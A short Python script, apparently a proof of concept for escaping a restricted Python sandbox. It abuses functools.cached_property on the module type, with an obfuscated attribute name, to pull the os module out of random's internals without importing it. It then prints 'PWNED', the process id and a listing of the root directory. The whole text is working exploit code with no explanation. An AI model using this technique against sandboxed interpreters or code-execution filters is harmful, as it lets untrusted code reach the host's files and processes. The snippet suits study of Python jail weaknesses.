import functools
import random

def f(m):
    return None

cp = functools.cached_property(f)
cp.attrname = "_o" + "s"
GM = type(random)
GM.foo = cp
o = random.foo
print(type(o), o)
print("PW" + "NED", o.getpid(), len(o.listdir("/")))
